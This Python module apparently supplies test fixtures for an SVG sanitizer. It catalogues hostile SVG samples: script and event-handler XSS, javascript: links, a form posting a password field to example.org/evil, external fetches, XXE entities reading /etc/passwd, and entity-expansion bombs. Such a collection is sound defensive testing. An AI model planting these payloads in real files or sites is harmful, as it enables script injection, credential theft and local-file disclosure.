"""Drawings that run, load or hide something: each is a way that was seen in the field, in few lines."""

from base64 import b64encode

SVG = "http://www.w3.org/2000/svg"
HTML = "http://www.w3.org/1999/xhtml"
HEAD = f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="{HTML}" viewBox="0 0 10 10"'


def svg(inner: str, attributes: str = "", before: str = "") -> str:
    return f"{before}{HEAD} {attributes}>{inner}</svg>"


def data(content: str, kind: str = "image/svg+xml") -> str:
    return f"data:{kind};base64,{b64encode(content.encode()).decode()}"


_SCRIPTED = svg("<script>alert(1)</script>")

RUNS = {
    "script": svg("<script>alert(1)</script>"),
    "script in metadata": svg("<metadata><script>alert(1)</script></metadata>"),
    "script in an unknown element": svg('<x:y xmlns:x="x"><script>alert(1)</script></x:y>'),
    "script of html": svg("<h:script>alert(1)</h:script>"),
    "prefixed script": svg(f'<s:script xmlns:s="{SVG}">alert(1)</s:script>'),
    "linked script": svg('<script xlink:href="data:text/javascript,alert(1)"/>'),
    "script in a style": svg("<style><script>alert(1)</script></style>"),
    "script in a title": svg("<title><script>alert(1)</script></title>"),
    "script in a label": svg("<foreignObject><h:div>Hi<h:script>alert(1)</h:script></h:div></foreignObject>"),
    "load": svg("", 'onload="alert(1)"'),
    "click": svg('<rect ONCLICK="alert(1)"/>'),
    "begin of an animation": svg('<animate attributeName="x" onbegin="alert(1)"/>'),
    "handler in a label": svg('<foreignObject><h:img src="x" onerror="alert(1)"/></foreignObject>'),
    "iframe": svg('<h:iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    "iframe in a label": svg(
        '<foreignObject><h:iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>'
    ),
    "iframe in another way": svg(f'<foreignObject><iframe xmlns="{HTML}" src="javascript:alert(1)"/></foreignObject>'),
    "embed": svg('<foreignObject><h:embed src="javascript:alert(1)"/></foreignObject>'),
    "object": svg('<foreignObject><h:object data="data:text/html,x"/></foreignObject>'),
    "form": svg(
        '<foreignObject><h:form action="https://example.org/evil"><h:input name="password"/></h:form></foreignObject>'
    ),
    "meta": svg('<foreignObject><h:meta http-equiv="refresh" content="0;url=https://example.org"/></foreignObject>'),
    "base": svg('<foreignObject><h:base href="https://example.org"/></foreignObject>'),
    "link": svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
    "link with blanks": svg('<a href=" java&#9;script:alert(1)"><text>x</text></a>'),
    "link to a page in itself": svg(
        '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a>'
    ),
    "animated link": svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
    "set link": svg('<a id="a"/><set href="#a" attributeName="xlink:href" to="javascript:alert(1)"/>'),
    "animated handler": svg('<set attributeName="onmouseover" to="alert(1)"/>'),
    "style sheet of XSL in itself": svg("", before='<?xml-stylesheet type="text/xsl" href="#s"?>'),
    "template of XSL": svg('<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" id="s"/>'),
    "drawing in a drawing": svg(f'<image href="{data(_SCRIPTED)}"/>'),
    "part of a page in itself": svg(f'<use href="{data(_SCRIPTED)}#a"/>'),
    "picture that is a page": svg('<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    "handler element": svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
    "focus": svg('<g onfocusin="alert(1)"/>'),
    "math link": svg(
        '<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"/></foreignObject>'
    ),
}
LOADS = {
    "image": svg('<image href="https://example.org/evil.png"/>'),
    "image of a neighbour": svg('<image xlink:href="evil.png"/>'),
    "image of the machine": svg('<image xlink:href="file:///etc/passwd"/>'),
    "image without a scheme": svg('<image href="//example.org/evil.png"/>'),
    "use": svg('<use href="other-evil.svg#a"/>'),
    "use in use": svg('<defs><g id="a"><use xlink:href="https://example.org/evil.svg#b"/></g></defs><use href="#a"/>'),
    "filter image": svg('<filter id="f"><feImage href="https://example.org/evil.png"/></filter>'),
    "fill": svg('<rect fill="url(https://example.org/evil#a)"/>'),
    "fill with an escape": svg('<rect fill="u\\72l(https://example.org/evil#a)"/>'),
    "fill in a style": svg("<rect style=\"fill:url( 'https://example.org/evil#a' )\"/>"),
    "animated fill": svg('<rect><animate attributeName="fill" to="url(https://example.org/evil#a)"/></rect>'),
    "mask": svg('<rect mask="url(evil.svg#m)"/>'),
    "cursor": svg('<rect style="cursor:url(https://example.org/evil.cur),auto"/>'),
    "sheet": svg("<style>@import 'https://example.org/evil.css';</style>"),
    "sheet with an escape": svg("<style>@im\\70ort url(https://example.org/evil.css);</style>"),
    "sheet in data": svg("<style>@import url(data:text/css,evil)</style>"),
    "font": svg("<style>@font-face{font-family:a;src:url(https://example.org/evil.woff2)}</style>"),
    "ground": svg("<style>svg{background:url(https://example.org/evil.png)}</style>"),
    "ground in media": svg(
        "<style>@media all{svg{background-image:image-set('https://example.org/evil.png' 1x)}}</style>"
    ),
    "custom property": svg("<style>svg{--a:url(https://example.org/evil.png);background:var(--a)}</style>"),
    "content": svg("<style>text::after{content:url(https://example.org/evil.png)}</style>"),
    "page": svg("<style>@page{background:url(https://example.org/evil.png)}</style>"),
    "in a label": svg('<foreignObject><h:img src="https://example.org/evil.png"/></foreignObject>'),
    "ground of a body": svg(
        '<foreignObject><h:body background="https://example.org/evil.png">a</h:body></foreignObject>'
    ),
    "ground of a table": svg(
        '<foreignObject><h:table background="https://example.org/evil.png"><h:tr BACKGROUND="//example.org/evil"/>'
        '<h:td background="evil.png"/></h:table></foreignObject>'
    ),
    "ground of a formula": svg(
        '<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML" background="https://example.org/evil.png"/>'
        "</foreignObject>"
    ),
    "style in a label": svg(
        '<foreignObject><h:p style="background:url(https://example.org/evil.png)">a</h:p></foreignObject>'
    ),
    "style sheet": svg("", before='<?xml-stylesheet href="https://example.org/evil.css"?>'),
    "path of a text": svg('<text><textPath href="https://example.org/evil.svg#p">a</textPath></text>'),
    "video": svg('<foreignObject><h:span><h:img srcset="https://example.org/evil.png 2x"/></h:span></foreignObject>'),
    "gradient": svg('<linearGradient href="https://example.org/evil.svg#g"/>'),
}
UNREADABLE = {
    "entity of a file": svg("<text>&a;</text>", before='<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    "laughs": svg("<text>&b;</text>", before='<!DOCTYPE svg [<!ENTITY a "a:lol"><!ENTITY b "x:&a;&a;">]>'),
    "parameter": svg("", before='<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://example.org/evil.dtd">%a;]>'),
    "entity that is a script": svg("&a;", before='<!DOCTYPE svg [<!ENTITY a "x:&#60;script>alert(1)&#60;/script>">]>'),
    "entity many times": svg(
        f"<text>{'&a;' * 9_000}</text>", before=f'<!DOCTYPE svg [<!ENTITY a "http://{"a" * 400}">]>'
    ),
    "handler by default": svg("<g/>", before='<!DOCTYPE svg [<!ATTLIST g onload CDATA "alert(1)">]>'),
    "page": f'<html xmlns="{HTML}"><body><svg xmlns="{SVG}"/><script>alert(1)</script></body></html>',
    "page that is called svg": f'<svg xmlns="{HTML}"><script>alert(1)</script></svg>',
    **{
        name: svg("", before=f'<?xml version="1.0" {" " * blanks}encoding="{name}"?>')
        for name, blanks in (
            ("UTF-7", 0),
            ("Shift_JIS", 900),
            ("GB18030", 0),
            ("idna", 0),
            ("hex", 0),
            ("none-such", 0),
        )
    },
}
